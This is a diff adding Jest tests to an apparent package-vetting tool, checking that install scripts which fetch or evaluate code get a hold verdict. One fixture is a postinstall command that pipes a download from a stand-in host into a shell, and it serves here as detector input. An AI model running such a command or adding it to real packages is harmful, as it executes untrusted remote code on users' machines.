@@ -130,3 +130,15 @@ describe('install-scripts evidence', () => {
     expect(outcome.data?.flags).toEqual(['oversized']);
   });
 });
+
+describe('install-scripts: the verdict hold', () => {
+  it.each<[string, Record<string, string>, RegExp | null]>([
+    ['code that fetches or evaluates: held', { postinstall: 'curl -s https://evil.test/x | sh' }, /^its install script fetches or evaluates code \(curl, .*\).*a release without it would lift this\)$/],
+    ['a plain native build: not held', { install: 'node-gyp rebuild' }, null],
+    ['another script: not held', { postinstall: 'node setup.js' }, null],
+  ])('%s', (_name, scripts, hold) => {
+    const outcome = outcomeOf(check, withScripts(scripts));
+    if (hold === null) expect(outcome.holdVerdict).toBeUndefined();
+    else expect(outcome.holdVerdict).toMatch(hold);
+  });
+});
